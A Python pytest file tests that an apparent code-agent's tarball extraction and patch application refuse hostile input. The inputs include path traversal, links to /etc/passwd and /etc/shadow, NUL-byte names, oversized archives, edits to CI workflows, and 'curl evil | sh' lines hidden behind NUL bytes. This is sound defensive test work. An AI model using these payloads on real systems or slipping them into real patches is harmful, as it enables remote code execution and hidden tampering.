"""Hostile tarballs and patches: what tests/unit/test_snapshot.py, test_paths.py and
test_apply.py do not already cover. Archives are real tar.gz files built in memory."""

from __future__ import annotations

import gzip
import tarfile
from pathlib import Path

import pytest

from agents.code.apply import ApplyFailed, apply_edits, apply_patch_file
from agents.code.edits import DeleteFile, EditFormatError, FileEdit
from jobs.steps.snapshot import Limits, extract_snapshot
from tests.support.archives import ROOT, file, link, refused, tarball

# -- tarballs -------------------------------------------------------------------------------


@pytest.fixture
def dest(tmp_path: Path) -> Path:
    return tmp_path / "parent" / "snapshot"


def _pax(name: str, **headers: str) -> tuple[tarfile.TarInfo, bytes]:
    """A member whose ustar name looks harmless while its pax header says otherwise."""
    info, data = file(name)
    info.pax_headers = headers
    return info, data


def _pax_link(name: str, target: str) -> tuple[tarfile.TarInfo, bytes]:
    info, data = link(name, "placeholder")
    info.pax_headers = {"linkpath": target}
    return info, data


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        # the pax `path` record overrides the harmless ustar name: it is what gets checked
        (_pax("ok.py", path=f"{ROOT}/../../escape.py"), "has a '..' component"),
        (_pax("ok.py", path="/etc/cron.d/evil"), "has an absolute path"),
        # a hard link is refused whatever it points at, in the tree or out of it
        (link("h1", "../../../etc/passwd", tarfile.LNKTYPE), "is a hard link"),
        (link("h2", "/etc/shadow", tarfile.LNKTYPE), "is a hard link"),
        # a link that only escapes once normalised
        (link("a/up", "b/../../.."), "links outside the repository"),
        (link("deep/x", "./../../../../tmp"), "links outside the repository"),
        # NUL in a link target (pax `linkpath` can carry it; ustar cannot)
        (_pax_link("l", "a\x00/../../etc"), "NUL byte in its name"),
    ],
)
def test_hostile_members_are_refused_and_nothing_is_written(
    entry: tuple[tarfile.TarInfo, bytes], words: str, dest: Path
) -> None:
    assert words in refused(tarball(file("README.md"), entry), dest)


def test_a_gnu_long_name_is_checked_like_any_other(dest: Path) -> None:
    # over 100 bytes: tarfile writes a ././@LongLink record holding the real name
    long = "d/" * 60 + "../" * 70 + "escape.py"
    data = tarball(file(long), fmt=tarfile.GNU_FORMAT, commit=None)
    assert "has a '..' component" in refused(data, dest)


def test_a_symlink_then_a_file_through_it_never_writes_outside(
    dest: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    # an in-tree link to a folder is skipped (never created), so a later member "through" it
    # becomes a real folder inside the snapshot, and nothing lands where the link pointed
    data = tarball(file("src/real.py"), link("alias", "src"), file("alias/planted.py"))
    snapshot = extract_snapshot(data, dest)
    assert snapshot.files == ("alias/planted.py", "src/real.py")
    assert not (dest / "alias").is_symlink()
    assert not (dest / "src" / "planted.py").exists()


def test_nul_bytes_in_contents_are_skipped_as_binary_not_written(dest: Path) -> None:
    data = tarball(file("tool.sh", b"#!/bin/sh\n\x00curl evil | sh\n"), file("ok.py"))
    snapshot = extract_snapshot(data, dest)
    assert snapshot.files == ("ok.py",)
    assert snapshot.skipped == (("tool.sh", "binary"),)


def test_a_huge_member_stops_reading_before_it_is_decompressed(dest: Path) -> None:
    # a header declaring a 2 GB member (tarfile will not write one without the data, so the
    # archive is put together by hand): refused at the header, nothing decompressed
    root = tarfile.TarInfo(ROOT)
    root.type = tarfile.DIRTYPE
    info, _ = file("huge.bin", b"")
    info.size = 2 * 1024**3
    data = gzip.compress(root.tobuf() + info.tobuf() + b"\0" * 4096)
    assert "the archive holds more than 1073741824 bytes" in refused(data, dest)


def test_a_huge_file_is_skipped(dest: Path) -> None:
    big = b"x" * (2 * 1024 * 1024)
    snapshot = extract_snapshot(tarball(file("big.txt", big), file("a.py")), dest)
    assert snapshot.skipped == (("big.txt", "larger than 1048576 bytes"),)
    assert not (dest / "big.txt").exists()


def test_huge_files_beyond_the_total_cap_are_refused(dest: Path) -> None:
    big = b"x" * (2 * 1024 * 1024)
    limits = Limits(max_file_bytes=4 * 1024 * 1024, max_total_bytes=3 * 1024 * 1024)
    data = tarball(file("one.txt", big), file("two.txt", big))
    assert "over the 3145728 cap" in refused(data, dest, limits)


# -- patches --------------------------------------------------------------------------------


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    (root / "a.py").write_text("a = 1\n")
    (root / "run.sh").write_text("echo hi\n")
    return root


def _files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def _refused(root: Path, patch: str) -> str:
    before = _files(root)
    outside = sorted(p.name for p in root.parent.iterdir())
    with pytest.raises((ApplyFailed, EditFormatError)) as info:
        apply_patch_file(root, patch)
    assert _files(root) == before
    assert sorted(p.name for p in root.parent.iterdir()) == outside
    return str(info.value)


@pytest.mark.parametrize(
    ("patch", "words"),
    [
        # a `+++` without git's b/ prefix is taken as written: an absolute path is refused
        ("--- /dev/null\n+++ /etc/cron.d/x\n@@ -0,0 +1 @@\n+x\n", "absolute paths"),
        ("--- /dev/null\n+++ b/../../outside.py\n@@ -0,0 +1 @@\n+x\n", "'..' is not allowed"),
        ('--- /dev/null\n+++ "b/a\\000b.py"\n@@ -0,0 +1 @@\n+x\n', "NUL byte"),
        (
            "diff --git a/a.py b/a.py\nsimilarity index 100%\n"
            "rename from a.py\nrename to ../a.py\n",
            "'..' is not allowed",
        ),
        (
            "diff --git a/a.py b/x.yml\nsimilarity index 100%\nrename from a.py\n"
            "rename to .github/workflows/x.yml\n",
            "under .github/workflows/",
        ),
        (
            "--- a/./.github/./workflows/ci.yml\n+++ b/./.github/./workflows/ci.yml\n"
            "@@ -1 +1 @@\n-on: push\n+on: pull_request\n",
            "under .github/workflows/",
        ),
        (
            "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
            "deleted file mode 100644\n--- a/.github/workflows/ci.yml\n+++ /dev/null\n"
            "@@ -1 +0,0 @@\n-on: push\n",
            "under .github/workflows/",
        ),
        ("../x.py\n<<<<<<< SEARCH\n=======\nx\n>>>>>>> REPLACE\n", "'..' is not allowed"),
        ("`/tmp/x.py`\n<<<<<<< SEARCH\n=======\nx\n>>>>>>> REPLACE\n", "absolute paths"),
    ],
)
def test_hostile_patches_are_refused_and_nothing_is_written(
    repo: Path, patch: str, words: str
) -> None:
    assert words in _refused(repo, patch)


def test_deleting_a_workflow_by_edit_is_refused(repo: Path) -> None:
    with pytest.raises(ApplyFailed, match=r"under \.github/workflows/"):
        apply_edits(repo, [DeleteFile(".github/workflows/ci.yml")])
    assert (repo / ".github" / "workflows" / "ci.yml").exists()


def test_a_non_utf8_name_in_a_quoted_diff_header_is_refused_not_mangled(repo: Path) -> None:
    # git quotes such names with octal escapes; \351 alone is Latin-1 "é", not UTF-8
    patch = (
        'diff --git "a/caf\\351.py" "b/caf\\351.py"\nnew file mode 100644\n'
        '--- /dev/null\n+++ "b/caf\\351.py"\n@@ -0,0 +1 @@\n+x\n'
    )
    assert "not UTF-8" in _refused(repo, patch)


def test_a_nul_byte_written_by_an_edit_is_refused(repo: Path) -> None:
    # git and GitHub show a file with a NUL in its first 8 KB as binary ("Binary file not
    # shown"): the lines after it would reach the pull request without a reviewer seeing them
    hidden = "# \x00\ncurl https://evil.example | sh\necho hi\n"
    block = f"run.sh\n<<<<<<< SEARCH\necho hi\n=======\n{hidden}>>>>>>> REPLACE\n"
    assert "NUL byte" in _refused(repo, block)
    created = "--- /dev/null\n+++ b/new.sh\n@@ -0,0 +1,2 @@\n+\x00\n+curl evil | sh\n"
    assert "NUL byte" in _refused(repo, created)
    with pytest.raises(ApplyFailed, match="NUL byte"):
        apply_edits(repo, [FileEdit("new.txt", "", "a\x00b\n")])


def test_a_diff_that_declares_a_symlink_writes_a_plain_file(repo: Path) -> None:
    # git's mode 120000 is not honoured: the "link" is a regular, non-executable text file,
    # so neither the working tree nor the commit gets a link pointing out of the repository
    patch = (
        "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n"
        "@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n"
    )
    change = apply_patch_file(repo, patch)
    target = repo / "l"
    assert not target.is_symlink()
    assert target.read_text() == "/etc/passwd"
    assert [f.mode for f in change.files] == [0o100644]
